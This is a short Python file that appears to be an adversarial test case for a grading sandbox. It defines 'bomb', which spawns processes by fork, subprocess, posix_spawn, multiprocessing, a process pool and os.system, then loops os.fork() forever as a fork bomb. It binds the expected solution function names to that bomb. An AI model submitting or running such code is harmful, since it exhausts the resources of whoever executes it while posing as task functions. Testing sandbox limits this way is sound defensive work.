#: says = "Processes by fork, subprocess, multiprocessing, posix_spawn and a pool."
#: at_most = 0.0
import concurrent.futures
import multiprocessing
import os
import subprocess


def bomb(*args, **kwargs):
    for make in (
        os.fork,
        lambda: subprocess.Popen(["sleep", "600"]),
        lambda: os.posix_spawn("/bin/sleep", ["sleep", "600"], {}),
        lambda: multiprocessing.Process(target=print).start(),
        lambda: concurrent.futures.ProcessPoolExecutor(4).submit(print).result(),
        lambda: os.system("sleep 600 &"),
        os.forkpty,
    ):
        try:
            if make() == 0:
                while True:
                    os.fork()
        except Exception:
            pass


truth_table = mp_neuron = gate = literal_clause = xor_network = is_representable = bomb
